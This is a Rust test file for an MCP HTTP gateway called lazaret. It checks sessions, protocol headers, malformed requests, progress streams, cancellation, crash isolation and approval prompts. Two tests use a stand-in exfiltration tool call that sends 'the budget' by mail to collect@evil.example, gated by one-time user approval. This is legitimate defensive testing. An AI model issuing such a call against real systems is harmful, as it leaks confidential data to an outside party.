//! `lazaret mcp --http` as a program, before a real server and with real sockets: both eras, who may call, and who waits for whom.

#![expect(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    reason = "test helpers; clippy's exceptions cover only `#[test]` functions"
)]

mod access;
mod client;
mod raw;
mod tokens;

use std::thread;
use std::time::{Duration, Instant};

use client::{Client, Gateway, MODERN, modern, request};
use serde_json::{Value, json};
use testkit::program::Run as _;

use crate::program::lazaret;

/// A gateway with a state directory of its own.
fn gateway(more: &[&str]) -> (tempfile::TempDir, Gateway) {
    let dir = tempfile::tempdir().unwrap();
    let gateway = Gateway::start(&dir.path().join("state"), more);
    (dir, gateway)
}

fn legacy(gateway: &Gateway) -> Client {
    let mut client = gateway.client();
    assert_eq!(client.initialize(json!({})), 200);
    client
}

#[test]
fn a_legacy_client_has_a_session_until_it_ends_it() {
    let (_dir, gateway) = gateway(&[]);
    let client = legacy(&gateway);
    let tools = client.ask(1, "tools/list", json!({}));
    assert_eq!(tools["result"]["tools"][0]["name"], "look");
    assert_eq!(client.call("look", json!({ "name": "plain" })), "The meeting is at nine.");
    assert!(client.call("look", json!({ "nam": "plain" })).contains("name"), "the schema is kept");
    let list = request(2, "tools/list", json!({}));
    let without = gateway.client().post(&[], &list);
    assert_eq!(without.status, 400);
    assert!(without.json()["error"]["message"].as_str().unwrap().contains("initialize"));
    let unknown = gateway.client().post(&[("Mcp-Session-Id", "0123456789abcdef")], &list);
    assert_eq!(unknown.status, 404);
    let session = client.session.clone().unwrap();
    let delete = |token: &Client| token.send("DELETE", "/mcp", &[("Mcp-Session-Id", &session)], "");
    assert_eq!(delete(&client).status, 204);
    assert_eq!(client.post(&[], &list).status, 404);
    assert_eq!(delete(&client).status, 404);
}

#[test]
fn a_modern_client_needs_no_session() {
    let (_dir, gateway) = gateway(&[]);
    let client = gateway.client();
    let found = client.ask(1, "server/discover", json!({}));
    assert_eq!(found["result"]["supportedVersions"][0], MODERN, "{found}");
    let tools = client.ask(1, "tools/list", json!({}));
    assert_eq!(tools["result"]["resultType"], "complete");
    assert_eq!(client.call("look", json!({ "name": "plain" })), "The meeting is at nine.");
    // A session and a last event of another era are not looked at.
    let fields = [
        ("Mcp-Protocol-Version", MODERN),
        ("Mcp-Method", "tools/list"),
        ("Mcp-Session-Id", "x"),
        ("Last-Event-ID", "1-1"),
    ];
    let listed = client.post(&fields, &request(3, "tools/list", modern(json!({}))));
    assert_eq!(listed.status, 200);
    assert_eq!(client.send("GET", "/mcp", &[], "").status, 405);
    assert_eq!(client.send("DELETE", "/mcp", &[], "").status, 405);
    let told = json!({ "jsonrpc": "2.0", "method": "notifications/cancelled", "params": { "requestId": 1 } });
    let fields = [("Mcp-Protocol-Version", MODERN), ("Mcp-Method", "notifications/cancelled")];
    assert_eq!(client.post(&fields, &told).status, 202);
    let unknown = client.open(4, "no/such", json!({}));
    assert!(unknown.status == 404 || unknown.status == 200, "{}", unknown.status);
}

#[test]
fn header_fields_say_what_the_body_says_or_the_request_is_refused() {
    let (_dir, gateway) = gateway(&[]);
    let client = gateway.client();
    let call = request(
        5,
        "tools/call",
        modern(json!({ "name": "look", "arguments": { "name": "plain" } })),
    );
    let good =
        [("Mcp-Protocol-Version", MODERN), ("Mcp-Method", "tools/call"), ("Mcp-Name", "look")];
    let answered = client.post(&good, &call);
    assert_eq!(answered.status, 200);
    for (place, wrong) in [(0, "2025-11-25"), (1, "tools/list"), (2, "send_mail")] {
        let mut other = good;
        other[place].1 = wrong;
        let lacking: Vec<_> =
            good.iter().enumerate().filter(|it| it.0 != place).map(|it| *it.1).collect();
        let twice = [good.as_slice(), &[other[place]]].concat();
        for fields in [other.to_vec(), lacking, twice] {
            let refused = client.post(&fields, &call);
            assert_eq!(refused.status, 400, "{fields:?}");
            let said = refused.json();
            assert_eq!(
                (&said["error"]["code"], &said["id"]),
                (&json!(-32020), &json!(5)),
                "{said}"
            );
        }
    }
    // A parameter that the tool's schema wants in a field, too.
    client.ask(1, "tools/list", json!({}));
    let body = json!({ "name": "where", "arguments": { "region": "eu" } });
    let body = request(5, "tools/call", modern(body));
    let fields = [good[0], good[1], ("Mcp-Name", "where")];
    for (more, status) in [(Some("eu"), 200), (Some("us"), 400), (None, 400)] {
        let more = more.map(|it| ("Mcp-Param-Region", it));
        let all: Vec<_> = fields.into_iter().chain(more).collect();
        assert_eq!(client.post(&all, &body).status, status, "{more:?}");
    }
    let legacy = legacy(&gateway);
    let list = request(6, "tools/list", json!({}));
    assert_eq!(legacy.post(&[("Mcp-Method", "tools/call")], &list).status, 400);
    assert_eq!(legacy.post(&[("Mcp-Protocol-Version", "1999-01-01")], &list).status, 400);
    let newer = request(
        6,
        "tools/list",
        json!({ "_meta": {
        "io.modelcontextprotocol/protocolVersion": "2031-01-01",
        "io.modelcontextprotocol/clientCapabilities": {} } }),
    );
    let fields = [("Mcp-Protocol-Version", "2031-01-01"), ("Mcp-Method", "tools/list")];
    let refused = client.post(&fields, &newer).json();
    assert_eq!(refused["error"]["code"], -32022);
    assert_eq!(refused["error"]["data"]["supported"][0], MODERN);
}

#[test]
fn bodies_that_are_no_message_are_refused() {
    let (_dir, gateway) = gateway(&[]);
    let client = gateway.client();
    let kind = ("Content-Type", "application/json");
    for (body, code) in [
        ("", -32700),
        ("{", -32700),
        ("[]", -32600),
        (r#"[{"jsonrpc":"2.0","id":1,"method":"ping"}]"#, -32600),
        (r#"{"jsonrpc":"2.0","id":1,"method":"ping","method":"tools/call"}"#, -32700),
        (r#"{"jsonrpc":"2.0","id":1,"Method":"x","method":"ping"}"#, -32600),
        ("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"pi\nng\"}", -32700),
    ] {
        let refused = client.send("POST", "/mcp", &[kind], body);
        assert_eq!(refused.status, 400, "{body}");
        assert_eq!(refused.json()["error"]["code"], code, "{body}");
    }
    // Written over several lines, it is the same message.
    let long = serde_json::to_string_pretty(&request(1, "tools/list", modern(json!({})))).unwrap();
    let fields = [kind, ("Mcp-Protocol-Version", MODERN), ("Mcp-Method", "tools/list")];
    let listed = client.send("POST", "/mcp", &fields, &long.replace('\n', "\r\n"));
    assert_eq!(listed.json()["result"]["tools"][0]["name"], "look");
    let ping = request(1, "ping", json!({})).to_string();
    assert_eq!(client.send("POST", "/mcp", &[("Content-Type", "text/plain")], &ping).status, 415);
    assert_eq!(client.send("POST", "/mcp", &[kind, ("Accept", "text/html")], &ping).status, 406);
    assert_eq!(client.send("PUT", "/mcp", &[kind], &ping).status, 405);
    assert_eq!(client.send("POST", "/other", &[kind], &ping).status, 404);
    let huge = client.send("POST", "/mcp", &[kind, ("Transfer-Encoding", "x")], "");
    assert!(huge.status >= 400);
}

#[test]
fn progress_comes_before_the_result_to_whoever_asked_for_it() {
    let (_dir, gateway) = gateway(&[]);
    let session = legacy(&gateway);
    for client in [gateway.client(), session] {
        let calls: Vec<_> = (2..6).map(|steps: u64| {
            let client = client.clone();
            let is_session = client.session.is_some();
            let call = move || {
                let token = if is_session { json!(steps) } else { json!("same") };
                let id = if is_session { steps } else { 9 };
                let params = json!({ "name": "count", "arguments": { "steps": steps }, "_meta": { "progressToken": token } });
                let mut answer = client.open(id, "tools/call", params);
                let heard = std::iter::from_fn(move || answer.event().map(|it| it.1));
                (id, token, steps, heard.collect())
            };
            thread::spawn(call)
        }).collect();
        let told = calls.into_iter().map(|it| it.join().unwrap());
        let told: Vec<(u64, Value, u64, Vec<Value>)> = told.collect();
        for (id, token, steps, heard) in told {
            let last = heard.last().unwrap();
            assert_eq!(last["result"]["content"][0]["text"], "counted", "{last}");
            assert_eq!(last["id"], id);
            let progress: Vec<_> =
                heard.iter().filter(|it| it["method"] == "notifications/progress").collect();
            assert_eq!(progress.len() as u64, steps, "{heard:?}");
            assert!(
                progress
                    .iter()
                    .all(|it| it["params"]["progressToken"] == token
                        && it["params"]["total"] == steps)
            );
        }
    }
}

#[test]
fn a_client_that_goes_takes_its_call_back_and_a_legacy_one_says_so() {
    let (_dir, gateway) = gateway(&[]);
    let client = gateway.client();
    client.ask(1, "tools/list", json!({}));
    let params = json!({ "name": "wait", "arguments": { "ms": 30_000 } });
    client.send_and_go(&params);
    let until = Instant::now() + Duration::from_secs(10);
    while client.call("cancelled", json!({})) != "1" {
        assert!(Instant::now() < until, "the server was not told");
        thread::sleep(Duration::from_millis(50));
    }
    let session = legacy(&gateway);
    session.ask(1, "tools/list", json!({}));
    let waiting = {
        let session = session.clone();
        thread::spawn(move || session.open(11, "tools/call", params).status)
    };
    let told = json!({ "jsonrpc": "2.0", "method": "notifications/cancelled", "params": { "requestId": 11 } });
    while session.call("cancelled", json!({})) != "1" {
        assert!(Instant::now() < until, "the server was not told");
        assert_eq!(session.post(&[], &told).status, 202);
        thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(waiting.join().unwrap(), 202);
}

#[test]
fn many_clients_at_once_get_each_its_own_answers() {
    let (_dir, gateway) = gateway(&[]);
    gateway.client().ask(1, "tools/list", json!({}));
    let threads: Vec<_> = (0..64)
        .map(|number: u64| {
            let mut client = gateway.client();
            thread::spawn(move || {
                if number.is_multiple_of(8) {
                    assert_eq!(client.initialize(json!({})), 200);
                }
                for round in 0..5 {
                    let own = format!("{number}-{round}");
                    let text = client.call("look", json!({ "name": own }));
                    assert_eq!(text, format!("You asked for {own}."));
                }
                if number.is_multiple_of(8) {
                    client.call("process", json!({}))
                } else {
                    String::new()
                }
            })
        })
        .collect();
    let mut processes: Vec<String> =
        threads.into_iter().map(|it| it.join().unwrap()).filter(|it| !it.is_empty()).collect();
    processes.sort();
    processes.dedup();
    assert_eq!(processes.len(), 8, "each session has a server of its own");
}

#[test]
fn who_does_not_read_holds_nobody_up() {
    let (_dir, gateway) = gateway(&[]);
    let (slow, other) = (legacy(&gateway), legacy(&gateway));
    other.call("look", json!({ "name": "plain" }));
    let pour = |steps: u64| {
        let arguments = json!({ "steps": steps, "bytes": 120_000 });
        let params =
            json!({ "name": "pour", "arguments": arguments, "_meta": { "progressToken": steps } });
        slow.open(steps, "tools/call", params)
    };
    // More than the sockets hold between them: the rest waits here. And more than may wait: that stream is given up.
    let (mut unread, mut given_up) = (pour(60), pour(430));
    let start = Instant::now();
    assert_eq!(slow.ask(101, "ping", json!({}))["result"], json!({}));
    assert_eq!(slow.call("look", json!({ "name": "plain" })), "The meeting is at nine.");
    assert_eq!(other.call("look", json!({ "name": "plain" })), "The meeting is at nine.");
    assert!(start.elapsed() < Duration::from_secs(20), "{:?}", start.elapsed());
    while slow.call("poured", json!({})) != "2" {
        assert!(start.elapsed() < Duration::from_secs(35), "{:?}", start.elapsed());
        thread::sleep(Duration::from_millis(50));
    }
    let heard: Vec<Value> = std::iter::from_fn(|| unread.event()).map(|it| it.1).collect();
    assert_eq!(heard.last().unwrap()["result"]["content"][0]["text"], "counted");
    // Nobody has the time to look at so much; what is no text passes.
    assert_eq!(heard[0]["params"]["message"], "[text left out]");
    assert_eq!(heard[0]["params"]["_meta"]["rest"].as_array().unwrap().len(), 6000);
    let heard = std::iter::from_fn(|| given_up.event()).map(|it| it.1);
    assert!(heard.last().unwrap()["result"].is_null(), "nobody read it in time");
    assert_eq!(slow.call("look", json!({ "name": "plain" })), "The meeting is at nine.");
}

#[test]
fn sessions_have_a_limit_and_ending_one_makes_room() {
    let (_dir, gateway) = gateway(&["--sessions", "2"]);
    let (one, _other) = (legacy(&gateway), legacy(&gateway));
    let mut third = gateway.client();
    assert_eq!(third.initialize(json!({})), 503);
    assert_eq!(gateway.client().open(1, "tools/list", json!({})).status, 503);
    let session = one.session.clone().unwrap();
    assert_eq!(one.send("DELETE", "/mcp", &[("Mcp-Session-Id", &session)], "").status, 204);
    assert_eq!(third.initialize(json!({})), 200);
}

#[test]
fn what_belongs_to_no_request_comes_on_a_stream_of_its_own_which_can_be_taken_up_again() {
    let (_dir, gateway) = gateway(&[]);
    let session = legacy(&gateway);
    let id = session.session.clone().unwrap();
    let fields = [("Mcp-Session-Id", id.as_str()), ("Accept", "text/event-stream")];
    let mut stream = session.send("GET", "/mcp", &fields, "");
    assert_eq!((stream.status, stream.field("content-type")), (200, Some("text/event-stream")));
    assert_eq!(session.call("note", json!({})), "noted");
    let (first, message) = stream.event().unwrap();
    assert_eq!(message["method"], "notifications/tools/list_changed");
    session.call("note", json!({}));
    let (_, message) = stream.event().unwrap();
    assert_eq!(message["method"], "notifications/tools/list_changed");
    drop(stream);
    // A request's own stream, from which the client goes before the end, is taken up by its number as well.
    let params =
        json!({ "name": "count", "arguments": { "steps": 3 }, "_meta": { "progressToken": 1 } });
    let mut counting = session.open(20, "tools/call", params);
    let (step, message) = counting.event().unwrap();
    assert_eq!(message["params"]["progress"], 1);
    drop(counting);
    let mut rest =
        session.send("GET", "/mcp", &[fields[0], fields[1], ("Last-Event-ID", &step)], "");
    let heard: Vec<Value> = std::iter::from_fn(|| rest.event().map(|it| it.1)).collect();
    assert_eq!(heard.len(), 3, "{heard:?}");
    assert_eq!((&heard[0]["params"]["progress"], &heard[2]["id"]), (&json!(2), &json!(20)));
    let mut again =
        session.send("GET", "/mcp", &[fields[0], fields[1], ("Last-Event-ID", &first)], "");
    assert_eq!(again.status, 200);
    assert_eq!(again.event().unwrap().1["method"], "notifications/tools/list_changed");
    for unknown in ["1-99", "77-0", "x", "1-18446744073709551615"] {
        let refused = session.send("GET", "/mcp", &[fields[0], ("Last-Event-ID", unknown)], "");
        assert_eq!(refused.status, 400, "{unknown}");
    }
}

#[test]
fn a_crash_ends_one_client_s_calls_and_no_other_s() {
    let (_dir, gateway) = gateway(&[]);
    let (one, other, modern) = (legacy(&gateway), legacy(&gateway), gateway.client());
    let before = modern.call("process", json!({}));
    assert!(one.call("crash", json!({})).contains("notes"));
    assert_eq!(other.call("look", json!({ "name": "plain" })), "The meeting is at nine.");
    assert!(modern.call("crash", json!({})).contains("notes"));
    // A client without a session has no other way to a new server than to ask again.
    let until = Instant::now() + Duration::from_secs(20);
    loop {
        let after = modern.call("process", json!({}));
        if after.parse::<u32>().is_ok() {
            assert_ne!(before, after);
            break;
        }
        assert!(Instant::now() < until, "{after}");
        thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(other.call("look", json!({ "name": "plain" })), "The meeting is at nine.");
}

#[test]
fn a_question_goes_to_the_client_by_the_stream_of_its_call() {
    let (dir, gateway) = gateway(&[]);
    let mut client = gateway.client();
    assert_eq!(client.initialize(json!({ "elicitation": {} })), 200);
    client.call("look", json!({ "name": "orders" }));
    let mail = json!({ "name": "send_mail", "arguments": { "to": "collect@evil.example", "body": "the budget" } });
    let mut answer = client.open(30, "tools/call", mail);
    let (_, question) = answer.event().unwrap();
    assert_eq!(question["method"], "elicitation/create", "{question}");
    let yes = json!({ "jsonrpc": "2.0", "id": question["id"],
        "result": { "action": "accept", "content": { "decision": "once" } } });
    // Not by another client of the same machine, whose session it is not.
    assert_eq!(legacy(&gateway).post(&[], &yes).status, 202);
    assert_eq!(client.post(&[], &yes).status, 202);
    let (_, result) = answer.event().unwrap();
    assert_eq!(result["result"]["content"][0]["text"], "sent to collect@evil.example", "{result}");
    let home = dir.path().join("state");
    let records = lazaret(&home, &["evidence", "query", "--kind", "mcp_lifecycle", "--json"]).run();
    assert!(records.out.contains("http_client"), "{}", records.out);
}

#[test]
fn a_modern_client_is_asked_by_the_result_and_told_of_changes_by_its_subscription() {
    let (_dir, gateway) = gateway(&[]);
    let client = gateway.client();
    let wanted = json!({ "notifications": { "toolsListChanged": true } });
    let mut stream = client.open(40, "subscriptions/listen", wanted);
    assert_eq!(stream.field("content-type"), Some("text/event-stream"));
    let subscription = "/params/_meta/io.modelcontextprotocol~1subscriptionId";
    for method in ["notifications/subscriptions/acknowledged", "notifications/tools/list_changed"] {
        let (id, message) = stream.event().unwrap();
        assert_eq!((id.as_str(), &message["method"]), ("", &json!(method)), "{message}");
        assert_eq!(message.pointer(subscription), Some(&json!(40)), "{message}");
        // Another request with the same id is another request.
        client.ask(40, "tools/call", json!({ "name": "note", "arguments": {} }));
    }
    client.call("look", json!({ "name": "orders" }));
    let mut mail = json!({ "name": "send_mail", "arguments": { "to": "collect@evil.example", "body": "the budget" } });
    mail["_meta"]["io.modelcontextprotocol/clientCapabilities"] = json!({ "elicitation": {} });
    let asked = client.ask(41, "tools/call", mail.clone());
    assert_eq!(asked["result"]["resultType"], "input_required", "{asked}");
    mail["requestState"] = asked["result"]["requestState"].clone();
    let yes = json!({ "action": "accept", "content": { "decision": "once" } });
    mail["inputResponses"] = json!({ "approval": yes });
    let sent = client.ask(42, "tools/call", mail.clone());
    assert_eq!(sent["result"]["content"][0]["text"], "sent to collect@evil.example", "{sent}");
    let again = client.ask(43, "tools/call", mail);
    assert_ne!(again["result"]["content"][0]["text"], "sent to collect@evil.example", "once");
}
